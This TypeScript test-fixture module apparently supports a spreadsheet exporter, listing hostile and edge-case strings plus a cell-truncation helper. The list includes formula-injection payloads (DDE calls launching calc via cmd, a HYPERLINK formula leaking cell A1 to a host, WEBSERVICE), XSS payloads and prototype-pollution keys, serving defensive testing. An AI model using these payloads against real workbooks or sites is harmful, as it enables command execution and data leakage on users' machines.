const fromCodes = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index)).join("");

/** An astronaut: seven code units, and a cut at most places breaks a pair. */
const ASTRONAUT = "\u{1F469}\u{1F3FD}\u200D\u{1F680}";

/** Texts that somewhere mean more than themselves; here they are texts wherever they stand. */
export const HOSTILE: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?"&A1,"click")',
  '=WEBSERVICE("https://example.com")',
  '=DDE("cmd";"/C calc";"x")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uFF1D1+1",
  "'=1+1",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "]]><!-- &lt; &constructor; &#0; -->",
  'a "quoted" name',
  "it's ]here[ [ev] #REF! $A$1",
  "{0} %s ${x} \\u0041 $1 $&",
  "two\nlines\r\nor\rthree",
  `all of C0 ${fromCodes(0, 31)} end`,
  `no line breaks ${fromCodes(1, 9)}${fromCodes(14, 31)} end`,
  `DEL and C1 ${fromCodes(127, 159)} end`,
  "\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u009B2J",
  "no characters \uFFFE and \uFFFF",
  "high \uD800 half",
  "low \uDC00 half",
  "\uDC00\uD800 turned round",
  "\u202Egnp.exe\u202C \u2066left\u2069 \u200F",
  "\u2028line\u2029paragraph\u0085next",
  "\uFEFFzero\u200Bwidth",
  "_x0041_",
  "_x005F_x0041_ _x000D_ _xD800_",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "x".repeat(32_767),
  "y".repeat(32_768),
  "z".repeat(50_000),
  `a${ASTRONAUT.repeat(6000)}`,
  ASTRONAUT.repeat(6000),
  `a${" ".repeat(49_998)}b`,
  `1${"0".repeat(49_999)}`,
  `"${'"'.repeat(49_999)}`,
  "(".repeat(50_000),
  "=(((".repeat(12_500),
  "a, ".repeat(16_000),
];

const LONGEST_CELL = 32_767;

/** What a cell can show of a text: cut where Excel's cells end, and what no workbook can hold as a replacement character. */
export function asCell(text: string): string {
  const isLong = text.length > LONGEST_CELL;
  const cut = isLong ? text.slice(0, LONGEST_CELL - 1) : text;
  const whole = isLong && /[\uD800-\uDBFF]$/.test(cut) ? cut.slice(0, -1) : cut;
  return `${whole}${isLong ? "…" : ""}`
    .replace(/[\uFFFE\uFFFF]/g, "\uFFFD")
    .replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");
}

/** Those that LibreOffice opens and saves as they are: it makes one line break of two, and decodes `_xHHHH_` once too often. */
export const KEPT_BY_LIBRE_OFFICE: readonly string[] = HOSTILE.filter(
  (text) => text.length < 1000 && asCell(text) === text && !/\r|_x[0-9A-Fa-f]{4}_/.test(text),
);
